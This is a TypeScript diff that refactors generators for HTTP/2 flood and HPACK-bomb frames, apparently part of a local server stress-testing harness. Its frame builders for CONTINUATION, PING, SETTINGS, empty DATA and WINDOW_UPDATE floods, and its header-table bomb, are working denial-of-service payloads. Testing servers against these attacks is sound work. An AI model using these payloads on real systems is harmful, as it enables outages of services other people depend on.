@@ -51,23 +51,25 @@ function streamOf(index: number): number {
 const opened = (): Uint8Array => opening;
 const floodConnections = { at: "local", connections: 8, everyMs: 5 } as const;
 const batch = 100;
-const emptySettings = frame(frameTypes.settings, 0, 0);
+const manySettings = many(batch, () => frame(frameTypes.settings, 0, 0));
 const pings = many(batch, () => frame(frameTypes.ping, 0, 0, new Uint8Array(8)));
+const emptyData = many(batch, () => frame(frameTypes.data, 0, 1));
+const windowUpdates = many(batch, () => frame(frameTypes.windowUpdate, 0, 0, number32(1)));
 const openPost = (authority: string): Uint8Array =>
   concat(opening, headers(1, fields(authority, "POST"), false));
 const filler = literal("x-filler", "x".repeat(1_000));
+const continuations = many(4, () => frame(frameTypes.continuation, 0, 1, filler));
 /** The first entry of the dynamic table (RFC 7541 section 2.3.3). */
 const firstEntry = integer(62, 7, 0x80);
-const bombFields = 2_000;
+/** One large entry and many references to it. Made once: what makes it would hold up the client beside it, on the same core. */
+const bombFields = concat(
+  literal("x-bomb", "b".repeat(4_000), 0x40),
+  many(2_000, () => firstEntry),
+);
 
 function bomb(streamId: number, authority: string): Uint8Array {
   const known = fields(authority).map(([name, value]) => literal(name, value));
-  const stored = literal("x-bomb", "b".repeat(4_000), 0x40);
-  const block = concat(
-    ...known,
-    stored,
-    many(bombFields, () => firstEntry),
-  );
+  const block = concat(...known, bombFields);
   return frame(frameTypes.headers, frameFlags.endHeaders | frameFlags.endStream, streamId, block);
 }
 
@@ -96,26 +98,26 @@ export const floodKinds = {
           concat(...fields(authority).map(([name, value]) => literal(name, value))),
         ),
       ),
-    next: () => many(4, () => frame(frameTypes.continuation, 0, 1, filler)),
+    next: () => continuations,
   },
   ping: { ...floodConnections, title: "PING", first: opened, next: () => pings },
   settings: {
     ...floodConnections,
     title: "SETTINGS",
     first: opened,
-    next: () => many(batch, () => emptySettings),
+    next: () => manySettings,
   },
   "empty-data": {
     ...floodConnections,
     title: "empty DATA frames",
     first: openPost,
-    next: () => many(batch, () => frame(frameTypes.data, 0, 1)),
+    next: () => emptyData,
   },
   "window-update": {
     ...floodConnections,
     title: "WINDOW_UPDATE",
     first: opened,
-    next: () => many(batch, () => frame(frameTypes.windowUpdate, 0, 0, number32(1))),
+    next: () => windowUpdates,
   },
   priority: {
     ...floodConnections,
